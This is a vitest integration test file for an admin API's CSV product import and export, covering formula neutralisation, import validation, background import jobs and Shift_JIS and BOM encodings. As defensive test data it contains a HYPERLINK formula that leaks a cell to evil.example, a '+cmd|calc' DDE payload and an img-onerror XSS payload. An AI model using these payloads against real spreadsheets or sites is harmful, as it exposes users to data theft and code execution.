import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { safeCell } from '../../src/modules/catalog/csv-encoding';
import { createTestApp, type TestApp, type TestUser } from '../helpers/app';

/** Issue 11 findings 4 and 5, and the CSV encodings of issue 16, through the real server. */
let t: TestApp;
let staff: TestUser;
let n = 0;
const uniq = () => `${Date.now().toString(36)}${(n++).toString(36)}`;

beforeAll(async () => {
  t = await createTestApp();
  staff = await t.login('staff');
});
afterAll(() => t?.dispose());

const importCsv = (body: string | Buffer, query = '') =>
  t.app.inject({ method: 'POST', url: `/v1/admin/products/import${query}`, headers: { ...staff.auth, 'content-type': 'text/csv' }, payload: body });
const exportCsv = () => t.app.inject({ method: 'GET', url: '/v1/admin/products/export', headers: staff.auth });
const adminProducts = async (q: string) => (await t.app.inject({ method: 'GET', url: `/v1/admin/products?q=${encodeURIComponent(q)}&limit=100`, headers: staff.auth })).json().items as { slug: string; title: string; description: string }[];

describe('finding 4: CSV export neutralises formulas', () => {
  it('cells starting with = + - @ tab or CR get a leading apostrophe; re-importing the export changes nothing', async () => {
    const u = uniq();
    const titles = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|calc', '@SUM(1+1)', '-2+3', '=1+1'];
    for (const [i, title] of titles.entries()) {
      const res = await t.app.inject({ method: 'POST', url: '/v1/admin/products', headers: staff.auth, payload: { title, slug: `formula-${u}-${i}`, variants: [{ sku: `F-${u}-${i}`, price: 100 }] } });
      expect(res.statusCode, res.body).toBe(201);
    }
    const exp = await exportCsv();
    expect(exp.statusCode).toBe(200);
    expect(exp.body.startsWith('\ufeff')).toBe(true);
    const lines = exp.body.split('\n').filter((l) => l.includes(`formula-${u}`));
    expect(lines).toHaveLength(5);
    for (const line of lines) {
      const cells = line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).map((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"'));
      const title = cells[1];
      expect(title, line).toMatch(/^'[=+\-@\t]/);
    }
    const header = exp.body.split('\n')[0];
    const again = await importCsv([header, ...lines].join('\n'));
    expect(again.json()).toMatchObject({ created: 0, updated: 0, unchanged: 5, errors: [] });
    expect((await adminProducts(`formula-${u}`)).length).toBeLessThanOrEqual(5);
  });
});

describe('safeCell', () => {
  it('prefixes tab and CR too, leaves numbers and plain text alone', () => {
    expect(safeCell('\tx')).toBe("'\tx");
    expect(safeCell('\rx')).toBe("'\rx");
    expect(safeCell(-5)).toBe(-5);
    expect(safeCell('plain - text')).toBe('plain - text');
  });
});

describe('finding 5: CSV import goes through the API validators and runs large files as a job', () => {
  it('refuses what the API refuses: 30,000-character descriptions, 16 option columns, option names with markup', async () => {
    const u = uniq();
    const options = Array.from({ length: 16 }, (_, i) => `option_o${i}`);
    const csv = [
      `slug,title,description,sku,price,${options.join(',')},option_<img src=x onerror=alert(1)>`,
      `long-${u},Long,${'x'.repeat(30_000)},LONG-${u},100${',' .repeat(16)},`,
      `many-${u},Many,,MANY-${u},100,${options.map(() => 'v').join(',')},`,
      `evil-${u},Evil,,EVIL-${u},100${','.repeat(16)},boom`,
      `fine-${u},Fine,,FINE-${u},100${','.repeat(16)},`,
    ].join('\n');
    const res = await importCsv(csv);
    expect(res.statusCode, res.body).toBe(200);
    const errors = res.json().errors as { line: number; column: string }[];
    expect(errors).toEqual([
      expect.objectContaining({ line: 2, column: 'description' }),
      expect.objectContaining({ line: 3, column: 'options' }),
      expect.objectContaining({ line: 4, column: expect.stringMatching(/^option_<img/) }),
    ]);
    expect(res.json().created).toBe(1);
    expect((await adminProducts(u)).map((p) => p.slug)).toEqual([`fine-${u}`]);
  });

  it('more than 1,000 rows → 202 and a job whose progress and result GET /v1/admin/imports/:id reports', async () => {
    const u = uniq();
    const rows = Array.from({ length: 1500 }, (_, i) => `job-${u}-${i},Job ${i},JOB-${u}-${i},${100 + i}`);
    rows[700] = `job-${u}-700,Job 700,JOB-${u}-700,not-a-price`;
    const res = await importCsv(['slug,title,sku,price', ...rows].join('\n'));
    expect(res.statusCode, res.body).toBe(202);
    expect(res.json()).toEqual({ id: expect.any(String), status: 'running' });
    await t.services.catalogCsv.drainImports();
    const job = await t.app.inject({ method: 'GET', url: `/v1/admin/imports/${res.json().id}`, headers: staff.auth });
    expect(job.statusCode).toBe(200);
    expect(job.json()).toMatchObject({ status: 'done', total: 1500, processed: 1500, created: 1499, updated: 0, errorCount: 1, errors: [expect.objectContaining({ line: 702, column: 'price' })] });
    expect((await t.app.inject({ method: 'GET', url: '/v1/admin/imports/0190aaaa-0000-7000-8000-000000000000', headers: staff.auth })).statusCode).toBe(404);
  });

  it('a large file that turns out malformed fails its job with the line, nothing applied', async () => {
    const u = uniq();
    const rows = Array.from({ length: 1200 }, (_, i) => `bad-${u}-${i},Bad ${i},BAD-${u}-${i},100`);
    rows[1100] = `bad-${u}-1100,"unclosed,BAD-${u}-1100,100`;
    const res = await importCsv(['slug,title,sku,price', ...rows].join('\n'));
    expect(res.statusCode).toBe(202);
    await t.services.catalogCsv.drainImports();
    const job = (await t.app.inject({ method: 'GET', url: `/v1/admin/imports/${res.json().id}`, headers: staff.auth })).json();
    expect(job).toMatchObject({ status: 'failed', created: 0, errorCount: 1 });
    expect(job.errors[0].message).toMatch(/cannot be read/);
    expect(await adminProducts(`bad-${u}`)).toEqual([]);
  });

  it('more than 100,000 rows → 413, nothing applied', async () => {
    const u = uniq();
    const body = `slug,title,sku,price\n${Array.from({ length: 100_001 }, (_, i) => `b-${u}-${i},B,B-${u}-${i},1`).join('\n')}`;
    const res = await importCsv(body);
    expect(res.statusCode).toBe(413);
    expect(res.json().code).toBe('payload_too_large');
    expect(await adminProducts(`b-${u}`)).toEqual([]);
  });
});

describe('CSV encodings (issue 16)', () => {
  it('imports a Shift_JIS file with 日本語 titles (detected, or ?encoding=shift_jis)', async () => {
    const u = uniq();
    const text = `slug,title,description,sku,price\nkasa-${u},和傘「雨月」,竹と和紙の日本製,KASA-${u},4800\n`;
    const res = await importCsv(iconv.encode(text, 'Shift_JIS'));
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toMatchObject({ created: 1, errors: [] });
    const [p] = await adminProducts(`kasa-${u}`);
    expect(p.title).toBe('和傘「雨月」');
    expect(p.description).toBe('竹と和紙の日本製');

    const v = uniq();
    const named = await importCsv(iconv.encode(`slug,title,sku,price\nsensu-${v},扇子,SENSU-${v},900\n`, 'Shift_JIS'), '?encoding=shift_jis');
    expect(named.json()).toMatchObject({ created: 1 });
    expect((await adminProducts(`sensu-${v}`))[0].title).toBe('扇子');
  });

  it('UTF-8 with a BOM imports; the export starts with one', async () => {
    const u = uniq();
    const res = await importCsv(Buffer.from(`\ufeffslug,title,sku,price\nbom-${u},ボム,BOM-${u},100\n`, 'utf8'));
    expect(res.json()).toMatchObject({ created: 1, errors: [] });
    expect((await adminProducts(`bom-${u}`))[0].title).toBe('ボム');
    const exp = await exportCsv();
    expect(exp.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(exp.body).toContain('ボム');
  });

  it('undecodable bytes → 400 naming the line, nothing applied', async () => {
    const u = uniq();
    const good = Buffer.from(`slug,title,sku,price\nok-${u},OK,OK-${u},100\n`);
    const bad = Buffer.concat([good, Buffer.from(`bad-${u},`), Buffer.from([0xff, 0xfe, 0x80]), Buffer.from(`,BAD-${u},100\n`)]);
    const res = await importCsv(bad);
    expect(res.statusCode).toBe(400);
    expect(res.json().detail).toMatch(/^Line 3 /);
    expect(res.json().errors).toEqual([{ path: 'line 3', message: expect.any(String) }]);
    expect(await adminProducts(`ok-${u}`)).toEqual([]);
    const forced = await importCsv(Buffer.from(`slug,title,sku,price\nx-${u},Ⅹ€,X-${u},1\n`, 'utf8'), '?encoding=shift_jis');
    expect(forced.statusCode).toBe(200);
    const nul = await importCsv(Buffer.from(`slug,title,sku,price\nn-${u},N\u0000,N-${u},1\n`));
    expect(nul.statusCode).toBe(400);
    expect(nul.json().detail).toMatch(/^Line 2 /);
  });
});
